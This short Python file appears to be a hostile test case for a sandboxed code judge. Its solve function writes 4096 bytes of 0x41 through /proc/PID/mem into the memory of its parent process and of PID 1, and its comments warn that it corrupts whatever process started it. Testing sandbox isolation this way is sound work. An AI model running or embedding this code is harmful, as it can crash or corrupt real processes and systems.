"""Writes over the worker's heap through /proc/PID/mem, which needs no special system call."""
# kind: call
# class: trace-worker
# may: WRONG CRASH TIMEOUT
# danger: corrupts whatever process started it
import os
from contextlib import suppress


def solve(n):
    for pid in (os.getppid(), 1):
        with suppress(OSError):
            memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
            os.pwrite(memory, b"\x41" * 4096, id(os) & ~0xFFF)
    return 0
